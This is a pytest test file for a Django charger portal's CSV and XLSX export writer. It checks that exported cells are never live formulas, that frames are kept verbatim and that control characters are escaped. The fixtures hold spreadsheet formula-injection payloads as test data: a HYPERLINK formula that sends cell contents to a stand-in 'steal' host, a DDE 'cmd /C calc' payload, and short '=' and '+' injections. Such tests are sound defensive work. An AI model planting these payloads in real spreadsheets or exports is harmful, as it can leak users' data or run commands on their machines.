"""Every table export goes through one writer (chargers/exports.py): charger-controlled text
is never a live formula, frames are exported as captured, control characters never break
an XLSX."""

from __future__ import annotations

import csv
import datetime
import io
from typing import Any

import django_tables2 as tables
import openpyxl
import pytest
from django.core.exceptions import ImproperlyConfigured
from django.test import Client
from django.urls import reverse

from chargers import exports, services
from chargers.models import ChargePoint, Connection, ConnectionEvent, Frame, Manufacturer

FORMULA = '=HYPERLINK("http://203.0.113.9/steal?"&A1,"Click")'


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]


def xlsx_cells(content: bytes) -> list[Any]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    # openpyxl reads a stored formula back as a cell of data type "f".
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    return [cell.value for cell in cells]


@pytest.fixture
def hostile_frames(db: None) -> ChargePoint:
    charge_point, _ = services.create_charge_point("CP1", authorization_key="k" * 20)
    connection = Connection.objects.create(
        charge_point=charge_point, opened_at=datetime.datetime.now(datetime.UTC)
    )
    now = datetime.datetime.now(datetime.UTC)
    long_raw = '[2,"1","DataTransfer",{"vendorId":"<b>&amp;</b>","data":"' + "x" * 900 + '"}]'
    Frame.objects.create(
        charge_point=charge_point,
        connection=connection,
        seq=1,
        captured_at=now,
        direction="in",
        message_type=2,
        unique_id=FORMULA,
        action="DataTransfer",
        raw=long_raw,
    )
    Frame.objects.create(
        charge_point=charge_point,
        connection=connection,
        seq=2,
        captured_at=now + datetime.timedelta(seconds=1),
        direction="in",
        message_type=0,
        raw="@SUM(1+1)*cmd|' /C calc'!A0",
        validation_error="not a JSON array",
    )
    return charge_point


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_frames_export_holds_no_formula_and_every_frame_verbatim(
    engineer_client: Client, hostile_frames: ChargePoint, fmt: str
) -> None:
    url = reverse("chargers:frame-list", args=[hostile_frames.pk])
    response = engineer_client.get(url, {"_export": fmt})
    assert response.status_code == 200
    cells = csv_cells(response.content) if fmt == "csv" else xlsx_cells(response.content)
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    long_raw = Frame.objects.get(seq=1).raw
    assert len(long_raw) > 900 and long_raw in cells  # not HTML-escaped, not cut at 400


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_connection_events_export_holds_no_formula(
    engineer_client: Client, db: None, fmt: str
) -> None:
    services.record_refusal("=1+2", "unknown chargePointId", "10.66.0.1:1")
    services.record_refusal("+CMD", "unknown chargePointId", "10.66.0.1:1")
    response = engineer_client.get(reverse("chargers:event-list"), {"_export": fmt})
    cells = csv_cells(response.content) if fmt == "csv" else xlsx_cells(response.content)
    assert {"'=1+2", "'+CMD"} <= set(cells)
    assert ConnectionEvent.objects.count() == 2


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_catalog_exports_hold_no_formula(engineer_client: Client, db: None, fmt: str) -> None:
    Manufacturer.objects.create(name="-2+3", country=FORMULA)
    response = engineer_client.get(reverse("chargers:manufacturer-list"), {"_export": fmt})
    cells = csv_cells(response.content) if fmt == "csv" else xlsx_cells(response.content)
    assert {"'-2+3", "'" + FORMULA} <= set(cells)


def test_only_csv_and_xlsx_are_exported(engineer_client: Client, db: None) -> None:
    for fmt in ("json", "yaml", "latex", "ods"):
        response = engineer_client.get(reverse("chargers:manufacturer-list"), {"_export": fmt})
        assert response["Content-Type"].startswith("text/html"), fmt


def test_control_characters_are_escaped_in_xlsx_and_kept_in_csv() -> None:
    rows = [["a\x00b\x1bc", "\x07=1"]]
    xlsx = exports.spreadsheet(["h", "i"], rows, "xlsx")
    text = exports.spreadsheet(["h", "i"], rows, "csv")
    assert isinstance(xlsx, bytes) and isinstance(text, str)
    assert xlsx_cells(xlsx)[2:] == [
        "a\\x00b\\x1bc",
        "\\x07=1",
    ]
    assert csv_cells(text.encode())[2:] == [
        "a\x00b\x1bc",
        "\x07=1",
    ]


def test_a_table_column_that_renders_html_needs_an_export_value(db: None) -> None:
    class Careless(tables.Table):
        name = tables.TemplateColumn("<b>{{ record.name }}</b>")

    with pytest.raises(ImproperlyConfigured, match="value_name"):
        exports.PortalTableExport("csv", Careless([{"name": "x"}]))
